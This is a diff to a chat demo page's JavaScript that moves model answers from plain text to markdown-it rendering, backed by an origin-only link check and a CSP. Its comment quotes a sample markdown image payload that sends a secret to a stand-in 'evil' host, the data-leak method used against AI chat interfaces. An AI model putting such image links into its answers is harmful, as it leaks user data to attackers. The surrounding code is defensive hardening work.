@@ -1,8 +1,13 @@
 /* chatgate demo page: sends a message to /api/chat and shows the answer as
  * it arrives. Safety rules this file keeps:
- *  - model text is only ever put on the page with textContent: never
- *    innerHTML, never as a link, image or any element that loads something,
- *    so an answer carrying ![x](http://evil/?d=secret) stays inert text;
+ *  - model text is rendered as Markdown by markdown-it (vendor/, pinned in
+ *    tests/browser/package-lock.json) with raw HTML off and linkify on:
+ *    the renderer and settings chatgate's output guard is proven against
+ *    (docs/guards.md, tests/t/81-differential.t), so an answer carrying
+ *    ![x](http://evil/?d=secret) reaches the page without its URL; the CSP
+ *    (img-src 'self', no inline script) is the second wall, and this page
+ *    links and shows images only on its own origin, the third. Without
+ *    markdown-it the text is shown as plain text;
  *  - the page never sees the session token (the cookie is HttpOnly) and
  *    stores nothing in localStorage or sessionStorage;
  *  - it talks only to its own origin (the CSP says so too).
@@ -18,6 +23,30 @@
     const status = document.getElementById('status');
     const limits = document.getElementById('limits');
     const login = document.getElementById('login');
+    const md = window.markdownit
+        ? window.markdownit({ html: false, linkify: true }) : null;
+    if (md) {
+        /* A third wall, after the guard and the CSP: this page makes links
+         * and images only to its own origin; anything else stays text. */
+        md.validateLink = function (url) {
+            try {
+                return new URL(url, location.href).origin === location.origin;
+            } catch (e) {
+                return false;
+            }
+        };
+    }
+
+    /* The answer so far, rendered whole each time (a construct may close in
+     * a later delta). */
+    function show(body, text) {
+        body.dataset.raw = text;
+        if (md) {
+            body.innerHTML = md.render(text);
+        } else {
+            body.textContent = text;
+        }
+    }
 
     function entry(role, label, text) {
         const li = document.createElement('li');
@@ -165,10 +194,12 @@
     async function streamAnswer(res) {
         const out = entry('assistant', 'Assistant', '');
         out.parentNode.dataset.mode = 'stream';
+        let text = '';
         let finished = false;
         await readEvents(res.body, function (name, data) {
             if (name === 'delta' && typeof data.text === 'string') {
-                out.textContent += data.text;
+                text += data.text;
+                show(out, text);
             } else if (name === 'done') {
                 finished = true;
                 out.parentNode.dataset.done = '1';
@@ -191,7 +222,8 @@
             data = null;
         }
         if (res.ok && data && typeof data.text === 'string') {
-            const out = entry('assistant', 'Assistant', data.text);
+            const out = entry('assistant', 'Assistant', '');
+            show(out, data.text);
             out.parentNode.dataset.mode = 'json';
             out.parentNode.dataset.done = '1';
             return;
